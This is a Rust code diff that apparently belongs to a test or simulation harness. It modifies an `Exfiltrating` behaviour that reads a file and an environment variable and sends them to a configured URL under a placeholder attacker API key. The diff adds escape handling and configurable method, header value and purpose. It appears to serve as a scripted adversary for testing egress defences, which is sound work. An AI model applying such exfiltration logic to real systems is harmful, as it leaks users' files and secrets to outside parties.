@@ -1,6 +1,6 @@
 //! Reads a file and a variable that are none of its business, sends them away with an attacker's key, and then says what it
-//! was answered. Its configuration is any JSON in which `file=`, `variable=`, `url=`, `origin=` and `header=` stand; each value
-//! ends at a space or a quote.
+//! was answered. Its configuration is any JSON in whose last text `file=`, `variable=`, `url=`, `origin=`, `header=`, `value=`, `method=`
+//! and `purpose=` stand. Each value ends at a space or a quote; `~20` in it is the byte 0x20.
 
 use std::collections::BTreeMap;
 
@@ -55,9 +55,14 @@ impl Behaviour for Exfiltrating {
 }
 
 impl Exfiltrating {
+    /// The last one counts, for what comes before `says` is the configuration.
     fn value(&self, key: &str) -> String {
-        let found = self.configuration.split_once(&format!("{key}=")).map_or("", |(_, rest)| rest);
-        found.split([' ', '"']).next().unwrap_or_default().to_owned()
+        let found = self.configuration.rsplit([' ', '"']).find_map(|word| word.strip_prefix(key)?.strip_prefix('='));
+        unescaped(found.unwrap_or_default())
+    }
+
+    fn value_or(&self, key: &str, otherwise: &str) -> String {
+        Some(self.value(key)).filter(|value| !value.is_empty()).unwrap_or_else(|| otherwise.to_owned())
     }
 
     fn answered(&mut self, number: u32, outcome: &Outcome) {
@@ -80,11 +85,16 @@ impl Exfiltrating {
         let mut headers = vec![Header { name: "content-type".to_owned(), value: "application/json".to_owned() }];
         let header = self.value("header");
         if !header.is_empty() {
-            headers.push(Header { name: header, value: "sk-ant-api03-of-the-attacker".to_owned() });
+            headers.push(Header { name: header, value: self.value_or("value", "sk-ant-api03-of-the-attacker") });
         }
+        let purpose = self.value_or("purpose", "exchange");
         HttpRequest {
-            purpose: Purpose::Exchange,
-            method: "POST".to_owned(),
+            purpose: match purpose.strip_prefix("source:") {
+                Some(source) => Purpose::Source(source.to_owned()),
+                None if purpose == "refresh" => Purpose::Refresh,
+                None => Purpose::Exchange,
+            },
+            method: self.value_or("method", "POST"),
             url: self.value("url"),
             origin: self.value("origin"),
             headers,
@@ -93,4 +103,20 @@ impl Exfiltrating {
             max_response_bytes: 1_000,
         }
     }
+}
+
+fn unescaped(text: &str) -> String {
+    let mut parts = text.split('~');
+    let mut bytes = parts.next().unwrap_or_default().as_bytes().to_vec();
+    for part in parts {
+        let code = part.get(..2).and_then(|digits| u8::from_str_radix(digits, 16).ok());
+        match code {
+            Some(code) => {
+                bytes.push(code);
+                bytes.extend_from_slice(&part.as_bytes()[2..]);
+            }
+            None => bytes.extend_from_slice(format!("~{part}").as_bytes()),
+        }
+    }
+    String::from_utf8_lossy(&bytes).into_owned()
 }
